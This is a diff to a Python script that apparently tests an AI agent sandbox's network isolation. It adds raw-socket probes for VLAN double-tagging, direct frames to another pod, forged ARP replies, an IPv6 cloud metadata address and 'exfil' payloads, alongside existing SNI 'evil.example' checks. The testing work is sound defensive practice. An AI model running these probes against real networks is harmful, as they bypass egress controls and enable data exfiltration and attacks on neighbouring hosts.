@@ -76,13 +76,18 @@ def ip6(src, dst, proto, body, hops=64):
 
 
 def frame(version, packet, source=None):
-    """Writes a whole frame to the gateway, past everything that the agent's own kernel would say."""
+    """Writes a packet to the gateway, past everything that the agent's own kernel would say."""
+    return write(GATEWAY, ETH[version], packet, source)
+
+
+def write(target, kind, body, source=None):
+    """Writes a whole frame."""
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
         s.bind((LINK, 0))
         if args.get("mark"):
             s.setsockopt(socket.SOL_SOCKET, 36, args["mark"])
         mac = source or s.getsockname()[4]
-        s.send(bytes.fromhex(GATEWAY.replace(":", "")) + mac + struct.pack("!H", ETH[version]) + packet)
+        s.send(bytes.fromhex(target.replace(":", "")) + mac + struct.pack("!H", kind) + body)
     return "sent"
 
 
@@ -159,6 +164,7 @@ attack("sni-evil")(lambda n: connect(d4(n), 443, hello("evil.example")))
 attack("sni-none")(lambda n: connect(d4(n), 443, hello("")))
 attack("sni-allowed-address-evil")(lambda n: connect(d4(n), 443, hello("allowed.example")))
 attack("metadata")(lambda n: connect("169.254.169.254", 80))
+attack("metadata6")(lambda n: connect("fd00:ec2::254", 80))
 attack("source-port-53-tcp")(lambda n: connect(d4(n), 443, sport=53))
 attack("source-port-53-udp")(lambda n: send(d4(n), 443, sport=5353))
 for service in (10250, 2222, 50051):
@@ -184,7 +190,7 @@ for protocol in (4, 33, 41, 47, 50, 132, 136, 253):
     raw(f"protocol4-{protocol}")(lambda n, p=protocol: frame(4, ip4(SELF4, d4(n), p, bytes(24))))
 for protocol in (47, 253):
     raw(f"protocol6-{protocol}")(lambda n, p=protocol: frame(6, ip6(SELF6, d6(n), p, bytes(24))))
-for title, flags in (("fin", 1), ("ack", 16), ("syn-ack", 18), ("null", 0), ("xmas", 41), ("rst", 4)):
+for title, flags in (("fin", 1), ("ack", 16), ("syn-ack", 18), ("null", 0), ("xmas", 41), ("rst", 4), ("syn-fin", 3)):
     raw(f"tcp-flags-{title}")(lambda n, f=flags: frame(4, ip4(SELF4, d4(n), 6, tcp(SELF4, d4(n), 4000 + n, 443, f, b"exfil"))))
 raw("tcp-syn-with-data")(lambda n: frame(4, ip4(SELF4, d4(n), 6, tcp(SELF4, d4(n), 4000 + n, 443, 2, b"exfil"))))
 raw("udp-port-0")(lambda n: frame(4, ip4(SELF4, d4(n), 17, udp(SELF4, d4(n), 0, 0, b"exfil"))))
@@ -222,8 +228,26 @@ raw("fragment6-atomic")(lambda n: frame(6, ip6(SELF6, d6(n), 44, struct.pack("!B
 raw("header6-hop-by-hop")(lambda n: frame(6, ip6(SELF6, d6(n), 0, b"\x11\0\1\4\0\0\0\0" + udp(SELF6, d6(n), 5, 443, b"exfil"))))
 raw("header6-options-tcp")(lambda n: frame(6, ip6(SELF6, d6(n), 60, b"\x06\0\1\4\0\0\0\0" + tcp(SELF6, d6(n), 4000, 443, 2))))
 raw("header6-routing")(lambda n: frame(6, ip6(SELF6, d6(n), 43, b"\x11\0\4\0\0\0\0\0" + udp(SELF6, d6(n), 5, 443, b"exfil"))))
+# In the tag of no network, which whoever takes the frame takes off, and in two of them.
+for title, kind, tags in (("priority", 0x8100, b"\0\0"), ("provider", 0x88A8, b"\0\0"), ("twice", 0x88A8, b"\0\0\x81\0\0\0")):
+    raw(f"tag4-{title}")(lambda n, k=kind, t=tags: write(GATEWAY, k, t + b"\x08\0" + ip4(SELF4, d4(n), 17, udp(SELF4, d4(n), 5, 443, b"exfil"))))
+    raw(f"tag6-{title}")(lambda n, k=kind, t=tags: write(GATEWAY, k, t + b"\x86\xdd" + ip6(SELF6, d6(n), 17, udp(SELF6, d6(n), 5, 443, b"exfil"))))
 raw("pod-icmp4")(lambda n: frame(4, ip4(SELF4, OTHER4, 1, b"\x08\0\xf7\xff\0\0\0\0")))
 raw("pod-protocol4-253")(lambda n: frame(4, ip4(SELF4, OTHER4, 253, b"exfil-exfil")))
+
+
+# Where pods share a link: frames to another of them that hold no packet, or one that is hidden.
+if OTHER_MAC := args.get("otherMac"):
+    def arp(operation):
+        own = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + bytes.fromhex("02000000beef")
+        return own + socket.inet_aton("203.0.113.9") + bytes(6) + socket.inet_aton(OTHER4)
+    raw("pod-link-ethertype")(lambda n: write(OTHER_MAC, 0x88B5, b"exfil" + bytes(60)))
+    raw("pod-link-mpls")(lambda n: write(OTHER_MAC, 0x8847, b"\0\x01\x01\x40exfil" + bytes(60)))
+    for title, kind, tag in (("vlan", 0x8100, b"\0\5"), ("priority", 0x8100, b"\0\0"), ("provider", 0x88A8, b"\0\5")):
+        body = tag + b"\x08\0" + ip4(SELF4, OTHER4, 254, f"exfil-{title}".encode())
+        raw(f"pod-link-{title}")(lambda n, k=kind, b=body: write(OTHER_MAC, k, b))
+    for title, operation in (("asks", 1), ("says", 2)):
+        raw(f"pod-link-arp-{title}")(lambda n, o=operation: write(OTHER_MAC, 0x0806, arp(o)))
 
 
 def run(name):
